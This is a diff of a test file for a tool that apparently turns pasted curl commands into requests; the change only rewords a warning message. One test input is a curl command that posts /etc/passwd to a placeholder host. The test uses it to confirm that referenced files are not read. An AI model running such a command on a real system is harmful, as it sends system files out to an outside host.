@@ -180,7 +180,7 @@ jq . 4.json | curl -d @- h.example/4
     '{"c":3}',
     undefined,
   ])
-  expect(imported[3]?.warn).toContain('the body stands in a file, which was not read')
+  expect(imported[3]?.warn).toContain('the body is in a file, which was not read')
 })
 
 test('redirections are no URLs, and prompts of a pasted session are no arguments', () => {
@@ -316,6 +316,6 @@ test('other commands, missing URLs and invalid URLs are reported by line', () =>
 test('files referenced by a command are not read, with a warning', () => {
   const [imported] = read('curl -d @/etc/passwd -b jar.txt h.example').imported
   expect(imported?.exchange.request.body).toBeUndefined()
-  expect(imported?.warn).toContain('the body stands in a file, which was not read')
+  expect(imported?.warn).toContain('the body is in a file, which was not read')
   expect(imported?.warn).toContain('cookies stand in a file, which was not read')
 })
